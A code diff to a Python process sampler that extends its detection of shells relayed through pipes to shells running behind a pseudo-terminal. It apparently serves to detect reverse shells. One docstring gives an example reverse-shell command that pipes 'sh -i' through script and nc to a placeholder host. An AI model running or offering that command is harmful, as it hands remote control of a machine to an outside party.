@@ -416,14 +416,16 @@ class ProcessSampler:
                 if i < first_parked:
                     snapshot.processes[i] = self._hand_out(proc.key, proc.but(stream_relay=relay))
 
-    def _shell_streams(self, proc: Process) -> tuple[frozenset, frozenset] | None:
+    def _shell_streams(self, proc: Process) -> tuple[frozenset, frozenset] | int | None:
         """What a shell reads on stdin and writes on stdout and stderr, where they are pipes
-        or FIFOs (pipes.shell_streams); None for any other process (nothing read)."""
+        or FIFOs (pipes.shell_streams), or the index of the pseudo-terminal they are (whose
+        master's holder's streams are then followed); None for any other process."""
         state = self._tracked.get(proc.key)
         fds = state.fds if state is not None else None
         if fds is None or not fds.stdio or not pipes.is_shell(proc):  # most: no stdio kept
             return None
-        return pipes.shell_streams(proc.pid, fds.stdio)
+        index = pipes.pty_index(fds.stdio)
+        return index if index is not None else pipes.shell_streams(proc.pid, fds.stdio)
 
     @staticmethod
     def _stream_relays(snapshot: Snapshot, shells: list) -> dict[int, str]:
@@ -451,8 +453,13 @@ class ProcessSampler:
             if pipes.forked_from(shell.pid, shell.ppid) \
                     or pipes.running_its_script(shell.pid):
                 continue  # running its (parent's) script: it reads data, not commands
+            terminal = None
+            if isinstance(streams, int):  # behind a pty: its master's holder's streams
+                terminal, streams = _terminal_streams(streams, shell, others)
+                if streams is None:
+                    continue
             ancestors = _ancestors(shell.pid, parents)
-            beside = [p for p in others if p.pid not in ancestors]
+            beside = [p for p in others if p.pid not in ancestors and p is not terminal]
             relays[shell.pid] = pipes.relay_in_loop(shell, streams, beside, ends_of)
         return relays
 
@@ -1049,8 +1056,9 @@ class ProcessSampler:
             self._denied("fd", pid, err)
         except OSError as err:
             self._problem("fd", "could not list /proc/%s/fd: %s", pid, err)
+        kept = pipes.may_be_piped(stdio) or pipes.pty_index(stdio) is not None
         state.fds = _Fds(now, tuple(inodes), files, count, frozenset(streams),
-                         tuple(stdio) if pipes.may_be_piped(stdio) else ())
+                         tuple(stdio) if kept else ())
         return state.fds
 
     def _note_uid(self, key: ProcessKey, uid: int | None, pid: int) -> None:
@@ -1253,6 +1261,19 @@ def _read_stat(pid: int) -> procfs.Stat | None:
     except (OSError, ValueError, IndexError):
         return None
 
+
+
+def _terminal_streams(index: int, shell: Process, others: list[Process]
+                      ) -> tuple[Process | None, tuple[frozenset, frozenset] | None]:
+    """The process holding the master of the shell's pseudo-terminal /dev/pts/``index``
+    among ``others``, and its own streams where they are pipes or FIFOs: what the terminal
+    types into the shell and what it shows of it (`cat f | script -qc 'sh -i' /dev/null |
+    nc HOST PORT > f`), followed as the shell's own. (None, None) if none such."""
+    for process in others:
+        if process.pid != shell.pid and pipes.stdio_piped(process.pid) \
+                and pipes.holds_pty_master(process.pid, index):
+            return process, pipes.shell_streams(process.pid, pipes.stdio_links(process.pid))
+    return None, None
 
 
 def _parks_running(sample: Process) -> bool:
